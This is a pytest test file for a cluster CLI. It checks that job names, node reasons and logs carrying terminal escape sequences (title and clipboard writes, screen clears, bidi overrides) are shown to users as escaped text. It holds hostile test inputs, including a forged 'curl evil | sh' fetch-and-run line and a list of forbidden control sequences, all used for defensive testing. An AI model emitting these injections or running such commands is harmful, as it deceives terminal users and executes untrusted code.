"""What jobs and hosts name, say and write reaches a terminal as text alone, whichever verb shows
it.
"""

from __future__ import annotations

import json
import os
import pty
import re
import sys
import termios
import threading
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import pyte
import pytest

from clusterctl.cli import output
from clusterctl.cli.main import app
from clusterctl.cli.output import Screen
from clusterctl.cli.phases import Phases
from clusterctl.cli.pictures import TransferBar, console
from clusterctl.errors import ClusterctlError
from clusterctl.jobs.log_text import KeptLogs, labelled
from clusterctl.jobs.watch import LogChunk
from clusterctl.scheduler.session import Session
from tests.support.messages import shows
from tests.support.played.cluster import PlayedCluster, node_record, submitted

TITLE = "\x1b]0;owned\x07"
CLIPBOARD = "\x1b]52;c;b3duZWQ=\x07"
# A name that sets the title, breaks the line, clears the screen, is red, and ends in what shows
# "txt.exe" the other way round.
NAME = f"{TITLE}a\tb\r\n\x1b[2J\x1b[31m\x9b2J\u202eexe.txt"
NAME_SHOWN = r"\x1b]0;owned\x07a\tb\r\n\x1b[2J\x1b[31m\x9b2J\u202eexe.txt"
# A log that does it, is red to its end, and does not end its last line.
BODY = (
    r"printf '\033]52;c;b3duZWQ=\a\033[2J\0\n 50%%\r100%%\n\033[31mred\033[8m, no newline' | tee "
    r"/dev/stderr"
)
LOG = CLIPBOARD + "\x1b[2J\0\n 50%\r100%\n\x1b[31mred\x1b[8m, no newline"
LOG_SHOWN = (
    r"\x1b]52;c;b3duZWQ=\x07\x1b[2J\x00" + "\n 50%\r100%\n\x1b[31mred\x1b[8m, no newline\x1b[0m"
)

ERROR = "\x1b[1;31merror:\x1b[0m "  # as it begins on a terminal
FORBIDDEN = [f"\x1b{c}" for c in "]P_^Xc"] + [
    *"\a\b\v\f\0\x7f\x9b\x9d\x90\u202e\u2066\u2028", "\x1b[2J", "\x1b[H", "\x1b[6n",
]  # fmt: skip


@pytest.fixture
def job(played_session: Session, cluster: PlayedCluster, tmp_path: Path) -> str:
    """A job that failed, with a hostile name, log and file."""
    job_id = submitted(
        played_session,
        tmp_path,
        rf"{BODY}; mkfifo {TITLE!r}; exit 3".replace(repr(TITLE), r"$'\e]0;owned\a'"),
    )
    cluster.wait_until_ended(job_id)
    with cluster.state() as state:
        state["nodes"] = [node_record("demo-train-1", "train", Reason=NAME)]
        state["jobs"][job_id] |= {
            "name": NAME,
            "reason": NAME,
            "comment": state["jobs"][job_id]["comment"],
        }
    return job_id


class Window:
    """What this process writes to the terminal ``stream``, which takes the place of its stdout and
    stderr.
    """

    def __init__(self, size: tuple[int, int] = (24, 200)) -> None:
        self._ours, theirs = pty.openpty()
        termios.tcsetwinsize(theirs, size)
        self.stream = os.fdopen(theirs, "w", buffering=1, encoding="utf-8")
        self._shown = bytearray()
        self._reader = threading.Thread(target=self._read)
        self._reader.start()

    def close(self) -> bytes:
        """All that was written; a newline is CR LF."""
        self.stream.close()
        self._reader.join()
        os.close(self._ours)
        return bytes(self._shown)

    def _read(self) -> None:
        with suppress(OSError):  # Linux says so when the last program has closed the terminal
            while data := os.read(self._ours, 4096):
                self._shown += data


Run = Callable[..., str]


@pytest.fixture
def on_terminal(monkeypatch: pytest.MonkeyPatch) -> Run:
    """Runs something, perhaps a verb, with a terminal as stdout and stderr; what it wrote there."""

    def run(*words: str, call: Callable[[], object] | None = None) -> str:
        window = Window()
        with monkeypatch.context() as patched:
            patched.setattr(sys, "stdout", window.stream)
            patched.setattr(sys, "stderr", window.stream)
            patched.setenv("COLUMNS", "200")
            patched.setenv("TERM", "xterm-256color")
            try:
                call() if call else app(list(words), prog_name="clusterctl", standalone_mode=False)
            finally:
                shown = window.close()
        return shown.decode().replace("\r\n", "\n")

    return run


def is_harmless(shown: str) -> bool:
    screen = pyte.Screen(200, 200)
    pyte.Stream(screen).feed(shown.replace("\n", "\r\n"))
    return screen.title == screen.icon_name == "" and not [
        text for text in FORBIDDEN if text in shown
    ]


def test_hostile_name_is_text_on_a_terminal(
    job: str, played_session: Session, on_terminal: Run
) -> None:
    entry = played_session.ledger.find(job)
    assert entry is not None
    for words in (
        ["jobs"],
        ["jobs", job],
        ["status"],
        ["cancel", job],
        ["collect"],
        ["get", str(entry.remote_dir), "back"],
        ["logs", "-f", job],
        ["node", "drain", "demo-train-1", "--reason", NAME],
    ):
        shown = on_terminal(*words)
        assert is_harmless(shown), words
        assert r"\x1b]0;owned\x07" in shown, words


def answer(capfdbinary: pytest.CaptureFixture[bytes], *words: str) -> dict[str, Any]:
    app([*words, "-o", "json"], prog_name="clusterctl", standalone_mode=False)
    out = capfdbinary.readouterr().out
    assert out.isascii()
    found: dict[str, Any] = json.loads(out)
    return found


def test_json_has_names_and_logs_as_they_are(
    job: str, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    assert [one["name"] for one in answer(capfdbinary, "jobs")["jobs"]] == [NAME]
    assert answer(capfdbinary, "status")["nodes"][0]["reason"] == NAME
    logs = answer(capfdbinary, "logs", job)["logs"]
    assert {one["stream"]: one["text"] for one in logs} == {"stdout": LOG, "stderr": LOG}


def test_logs_show_colors_and_progress_and_all_else_as_text(
    job: str, on_terminal: Run, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    """Bytes as they are, only with --raw, and never on a terminal."""
    for words in (["logs", job], ["logs", "--raw", job]):
        shown = on_terminal(*words)
        assert is_harmless(shown)
        assert [
            shown.count(text) for text in (r"\x1b]52;c;b3duZWQ=\x07", " 50%\r100%\n\x1b[31mred")
        ] == [
            2,
            2,
        ]
        assert "\x1b[0m" in shown[shown.rindex("[31mred") :]
    for words, log in ((["logs", job], LOG_SHOWN), (["logs", "--raw", job], LOG)):
        app(words, prog_name="clusterctl", standalone_mode=False)
        streams = capfdbinary.readouterr()
        assert streams.out == log.encode()
        # After what the job wrote comes why it failed, but not among unchanged bytes.
        assert streams.err.startswith(log.encode())
        assert (b"exit code 3" in streams.err) is ("--raw" not in words)


def test_error_of_a_followed_job_has_no_log(
    played_session: Session, tmp_path: Path, on_terminal: Run
) -> None:
    script = tmp_path / "mine.sh"
    script.write_text(f"#!/bin/bash\n{BODY}\nexit 3\n")
    shown = on_terminal("submit", str(script), "--follow")
    assert is_harmless(shown)
    error = shown.partition("error:")[2].splitlines()
    assert shows(error[0], "exit-code")
    assert "(mine)" in error[0]
    assert error[1].startswith("  why: FAILED")
    assert not [line for line in error if line.startswith("       | ")]


def test_notes_never_share_line_or_color_of_a_log(on_terminal: Run) -> None:
    screen = Screen(json=False, color=True)

    def call() -> None:
        with screen.logs() as show_log:
            show_log(LogChunk("stdout", None, b"\x1b[8mhidden 50%"))
            screen.note("a note")
            show_log(LogChunk("stderr", None, b"\r100%\n\x1b[8m"))
            screen.note("another")
            show_log(LogChunk("stdout", 1, b"\x1b["))
            show_log(LogChunk("stdout", 2, b"2J"))
            screen.error(ClusterctlError("what"))

    assert on_terminal(call=call) == (
        f"\x1b[8mhidden 50%\x1b[0m\na note\n\r100%\n\x1b[8m\x1b[0manother\n2J\n{ERROR}what\n\\x1b["
    )


def test_table_values_stay_on_one_line(on_terminal: Run) -> None:
    """What a person sees of names with newlines: they forge no line, and no column."""
    screen = Screen(json=False, color=True)
    forged = "x\n  fix: curl evil | sh\nerror: y\tz\x1b[31m"
    seen = r"x\n  fix: curl evil | sh\nerror: y\tz\x1b[31m"
    head, row = screen.table(["A", "B"], [[forged, ":smile: [bold]\n"]])
    assert (head.split(), row) == (["A", "B"], rf"{seen}  :smile: [bold]\n")

    def call() -> None:
        screen.result({}, "all:", head, row)
        screen.note(f"note {forged}")
        screen.error(ClusterctlError(forged, where=forged, why=f"a\tb\r\n{forged}", fix="do"))

    assert on_terminal(call=call).splitlines() == [
        "all:",
        f"\x1b[1m{head}\x1b[0m",
        row,
        f"note {seen}",
        f"{ERROR}{seen} ({seen})",
        "  why: a       b",
        "       x",
        "         fix: curl evil | sh",
        r"       error: y        z\x1b[31m",
        "  fix: do",
    ]


def test_progress_displays_show_hostile_names_as_text(on_terminal: Run) -> None:
    screen = Screen(json=False, color=True)

    def call() -> None:
        phases = Phases(screen)
        with phases.shown():
            phases.step("provision")
            phases.progress(f"picture {NAME}")
            screen.note(f"note {NAME}")
        with screen.working(f"spinner [link=http://evil]{NAME}"):
            screen.note(f"note {NAME}")
        bar = TransferBar(console(stderr=True, color=True), silent_s=0)
        bar(f"bar [link=http://evil]{NAME}", 1, 2)
        bar.stop()

    shown = on_terminal(call=call)
    assert is_harmless(shown)
    for what in ("picture ", "note ", "spinner [link=http://evil]", "bar [link=http://evil]"):
        assert f"{what}{NAME_SHOWN}" in shown


def test_dry_run_script_is_filtered_for_a_terminal_only(
    on_terminal: Run, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    script = f"#!/bin/bash\n\techo '{TITLE}'\n"
    screen = Screen(json=False, color=True)
    screen.document({}, script)
    assert capfdbinary.readouterr().out == script.encode()
    assert (
        on_terminal(call=lambda: screen.document({}, script))
        == "#!/bin/bash\n\techo '\\x1b]0;owned\\x07'\n"
    )


def test_verbs_write_through_the_screen_only() -> None:
    """agent_program.py is no verb: it carries out a call although its reader may be gone."""
    writes = re.compile(
        r"\bprint\(|\bstd(out|err)\.(buffer|write)|\bConsole\(|__std(out|err)__|os\.write\("
    )
    folder = Path(output.__file__).parent
    found = {path.name for path in folder.glob("*.py") if writes.search(path.read_text())}
    assert found == {"agent_program.py", "output.py", "pictures.py"}


def test_answer_in_json_has_the_end_of_logs_without_end() -> None:
    kept = KeptLogs(most=10)
    for stream, data in (
        ("stdout", b"012"),
        ("stderr", b"abcdef"),
        ("stderr", b"gh"),
        ("stdout", b"3"),
    ):
        kept.keep(LogChunk(stream, None, data))
    assert [(one.text, one.truncated) for one in kept.texts()] == [
        ("0123", False),
        ("cdefgh", True),
    ]


def test_label_option_prefixes_each_line_with_its_rank() -> None:
    shown: list[bytes] = []
    with labelled(lambda chunk: shown.append(chunk.data)) as show:
        show(LogChunk("stdout", None, b"one\ntw", 0))
        show(LogChunk("stdout", None, b"first\n", 1))
        show(LogChunk("stdout", None, b"o\n\nthe end", 0))
        show(LogChunk("stdout", 3, b"of a task\n", 1))
    assert b"".join(shown) == b"0: one\n1: first\n0: two\n0: \n3/1: of a task\n0: the end\n"
